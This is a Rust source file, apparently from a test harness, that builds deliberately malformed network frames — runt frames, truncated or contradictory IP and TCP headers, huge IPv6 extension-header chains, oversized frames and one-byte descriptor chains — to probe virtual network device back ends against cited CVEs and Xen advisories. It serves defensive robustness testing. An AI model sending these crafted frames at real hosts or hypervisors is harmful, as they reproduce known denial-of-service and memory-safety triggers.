//! Frames that lie about themselves: cut off, too long, with headers that contradict each other.

use crate::frames::{ETHERNET_BYTES, GsoKind, NetHeader, Packet};
use crate::ring::DESC_NEXT;

use super::hand::HEADER;
use super::header::send_all;
use super::{Hand, Stage, Traces, VillainError, case_table};

type Done = Result<Traces, VillainError>;
type Frames = Vec<(NetHeader, Vec<u8>)>;

case_table! { Header:
    "runt-frame" runt_frame Frame "Frames of 1 to 13 bytes: shorter than an Ethernet header (Linux CVE-2024-41090)"
    "cut-off-frame" cut_off_frame Frame "A frame cut off at every byte of its headers, offloads asked for"
    "cut-off-plain-frame" cut_off_plain_frame Nothing "A frame cut off at every byte after its Ethernet header, without offloads"
    "vlan-runt" vlan_runt Frame "A VLAN tag that is cut off, and towers of tags"
    "frame-too-long" frame_too_long Frame "Frames of more than 64 KiB"
    "ip-header-length-lies" ip_header_length_lies Frame "IPv4 header lengths from 0 to beyond the frame, offloads asked for"
    "ip-length-lies" ip_length_lies Frame "IP lengths of 0, too short and too long, offloads asked for"
    "tcp-header-length-lies" tcp_header_length_lies Frame "TCP header lengths from 0 to beyond the frame, segmentation asked for"
    "tcp-header-longer-than-segment" tcp_header_longer_than_segment Frame "All headers together are longer than a segment's payload (DPDK CVE-2026-100236)"
    "ipv6-extension-tower" ipv6_extension_tower Frame "IPv6 extension headers without end, segmentation asked for (OVS CVE-2020-35498)"
    "ip-fragments-with-gso" ip_fragments_with_gso Frame "IP fragments for which segmentation is asked"
    "tiny-pieces" tiny_iovecs Nothing "A frame of 1500 bytes in descriptors of 1 byte (XSA-432)"
    "headers-split-everywhere" headers_split_everywhere Nothing "Protocol headers cut at every byte over two descriptors, segmentation asked for (XSA-423)"
}

fn runt_frame(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| (1..ETHERNET_BYTES).map(|length| plain(stage.frame(50)[..length].to_vec())).collect())
}

fn cut_off_frame(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| {
        let packets = [tcp(stage, 3000), tcp(stage, 3000).tagged(7)];
        packets.iter().flat_map(|packet| cut_everywhere(packet, true)).collect()
    })
}

fn cut_off_plain_frame(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| cut_everywhere(&tcp(stage, 100), false))
}

fn vlan_runt(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| {
        let tagged = tcp(stage, 100).tagged(7).frame();
        let cut = (ETHERNET_BYTES..19).map(|length| plain(tagged[..length].to_vec()));
        let tower = |tags: usize| {
            let mut frame = tagged[..12].to_vec();
            frame.extend([0x81, 0x00, 0x00, 0x07].repeat(tags));
            plain(frame)
        };
        cut.chain([1, 2, 3, 8, 300].map(tower)).collect()
    })
}

fn frame_too_long(stage: &mut Stage<'_>) -> Done {
    let mut guest = stage.guest(|builder| builder)?;
    let mut hand = Hand::transmit(&mut guest);
    let place = hand.place_frame(&[stage.frame(1000), vec![0; 64_000]].concat())?;
    // The same 64 KB over and over: 65600 bytes, then a megabyte, then all that a ring's descriptors can name.
    for (first, iovecs, length) in [(0, 2, 32_800), (2, 20, 64_000), (30, 200, 64_000)] {
        let head = hand.chain(first, &vec![(place, length, 0); iovecs]);
        hand.offer(head);
    }
    hand.show(&mut guest);
    Ok(hand.leave(guest))
}

fn ip_header_length_lies(stage: &mut Stage<'_>) -> Done {
    let lengths = [0, 1, 4, 6, 15];
    lies(stage, |packet, frame| lengths.map(|length| at(frame, packet.network_offset(), &[0x40 | length])).to_vec())
}

fn ip_length_lies(stage: &mut Stage<'_>) -> Done {
    let lengths = [0u16, 1, 19, 20, 21, 39, 41, 2000, u16::MAX];
    lies(stage, |packet, frame| lengths.map(|length| at(frame, packet.network_offset() + 2, &length.to_be_bytes())).to_vec())
}

fn tcp_header_length_lies(stage: &mut Stage<'_>) -> Done {
    let lengths = [0, 1, 4, 6, 15];
    lies(stage, |packet, frame| lengths.map(|length| at(frame, packet.transport_offset() + 12, &[length << 4])).to_vec())
}

fn tcp_header_longer_than_segment(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| {
        let longest = tcp(stage, 3000).with_tcp(|header| {
            header.set_options_raw(&[1; 40]).expect("40 bytes of options are allowed");
        });
        let (header, frame) = longest.gso(8);
        let cut = |length: usize| (NetHeader { gso_size: 8, ..header }, frame[..length].to_vec());
        vec![(header, frame.clone()), cut(longest.header_bytes()), cut(longest.header_bytes() - 1), cut(60)]
    })
}

fn ipv6_extension_tower(stage: &mut Stage<'_>) -> Done {
    send_all(stage, |stage| {
        let mut towers = Vec::new();
        for count in [1, 8, 1000, 7000] {
            let mut frame = [&stage.peer[..], &stage.mac, &[0x86, 0xdd]].concat();
            frame.extend([0x60, 0, 0, 0, 0xff, 0xff, 0, 64]);
            frame.extend([0xfd; 32]);
            // Hop-by-hop options, each saying that another follows.
            frame.extend([0, 0, 1, 4, 0, 0, 0, 0].repeat(count));
            let offload = NetHeader {
                needs_checksum: true,
                gso: GsoKind::Tcp6,
                gso_size: 1000,
                header_length: 74,
                checksum_start: 54,
                checksum_offset: 16,
                ..NetHeader::default()
            };
            towers.extend([plain(frame.clone()), (offload, frame)]);
        }
        towers
    })
}

fn ip_fragments_with_gso(stage: &mut Stage<'_>) -> Done {
    lies(stage, |packet, frame| {
        [0x2000u16, 0x2001, 0x0001, 0x1fff, 0xffff]
            .map(|fragment| at(frame, packet.network_offset() + 6, &fragment.to_be_bytes()))
            .to_vec()
    })
}

fn tiny_iovecs(stage: &mut Stage<'_>) -> Done {
    let mut guest = stage.guest(|builder| builder.ring_size(2048))?;
    let mut hand = Hand::transmit(&mut guest);
    let frame = stage.frame(1458);
    let place = hand.place_frame(&frame)?;
    let bytes = (HEADER + frame.len()) as u16;
    for index in 0..bytes {
        let flags = if index + 1 < bytes { DESC_NEXT } else { 0 };
        hand.describe(index, place + u64::from(index), 1, flags, index + 1);
    }
    hand.offer(0);
    hand.show(&mut guest);
    Ok(hand.leave(guest))
}

fn headers_split_everywhere(stage: &mut Stage<'_>) -> Done {
    let mut guest = stage.guest(|builder| builder)?;
    let mut hand = Hand::transmit(&mut guest);
    let (header, frame) = tcp(stage, 3000).gso(1000);
    let place = hand.place(&[&header.bytes()[..], &frame].concat())?;
    let whole = (HEADER + frame.len()) as u32;
    for cut in 1..(HEADER + 54) as u16 {
        let (first, rest) = (u32::from(cut), whole - u32::from(cut));
        let head = hand.chain(2 * cut, &[(place, first, 0), (place + u64::from(cut), rest, 0)]);
        hand.offer(head);
    }
    hand.show(&mut guest);
    Ok(hand.leave(guest))
}

fn plain(frame: Vec<u8>) -> (NetHeader, Vec<u8>) {
    (NetHeader::default(), frame)
}

fn tcp(stage: &Stage<'_>, length: usize) -> Packet {
    let (me, peer) = stage.hosts();
    Packet::tcp(me, peer, 1, vec![7; length])
}

/// The packet's frame cut off at every byte of its headers.
fn cut_everywhere(packet: &Packet, offloads: bool) -> Frames {
    let (header, frame) = packet.gso(1000);
    let header = if offloads { header } else { NetHeader::default() };
    (ETHERNET_BYTES..=packet.header_bytes()).map(|length| (header, frame[..length].to_vec())).collect()
}

/// Sends the frames that `change` makes of a sound one, with a partial checksum and with segmentation asked for.
fn lies(stage: &Stage<'_>, change: impl Fn(&Packet, &[u8]) -> Vec<Vec<u8>>) -> Done {
    send_all(stage, |stage| {
        let packet = tcp(stage, 3000);
        let with = |(header, frame): (NetHeader, Vec<u8>)| {
            change(&packet, &frame).into_iter().map(move |frame| (header, frame)).collect::<Frames>()
        };
        [with(packet.partial()), with(packet.gso(1000))].concat()
    })
}

/// `frame` with other bytes from `place` on.
fn at(frame: &[u8], place: usize, bytes: &[u8]) -> Vec<u8> {
    let mut frame = frame.to_vec();
    frame[place..place + bytes.len()].copy_from_slice(bytes);
    frame
}
